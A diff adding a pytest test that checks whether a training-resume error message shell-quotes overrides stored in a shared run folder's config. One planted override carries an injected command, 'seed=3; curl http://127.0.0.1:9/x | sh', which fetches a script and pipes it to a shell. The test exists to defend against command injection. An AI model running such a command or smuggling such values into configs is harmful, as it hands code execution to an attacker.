@@ -159,3 +159,23 @@ def test_a_legitimate_resume_elsewhere_extends_training(trained, copied_checkpoi
     assert objects["trainer"].current_epoch == 2 and "val/ua_best" in metrics
     assert (new_dir / "checkpoints" / "last.ckpt").is_file()
     assert (new_dir / "run_config.yaml").is_file()  # a later resume of this run is checked too
+
+
+def test_the_repeat_command_quotes_each_stored_override(trained, tmp_path):
+    """A shared run folder's run_config.yaml could hold an override that is a shell command of its
+    own; the hint a user pastes keeps each stored override one quoted argument."""
+    import shlex
+
+    from omegaconf import OmegaConf
+
+    planted = tmp_path / "shared_run"
+    (planted / "checkpoints").mkdir(parents=True)
+    shutil.copy(trained.last, planted / "checkpoints" / "last.ckpt")
+    record = OmegaConf.load(trained.run_dir / "run_config.yaml")
+    record.overrides = ["seed=3; curl http://127.0.0.1:9/x | sh", "data.split_seed=3"]
+    OmegaConf.save(record, planted / "run_config.yaml")
+    with pytest.raises(ResumeError) as stopped:
+        resume(trained, planted / "checkpoints" / "last.ckpt", tmp_path / "new_run", "data.split_seed=4")
+    command = str(stopped.value).split("Repeat the original command: ", 1)[1].strip()
+    assert shlex.split(command)[3:5] == ["seed=3; curl http://127.0.0.1:9/x | sh", "data.split_seed=3"]
+    assert "'seed=3; curl http://127.0.0.1:9/x | sh'" in command
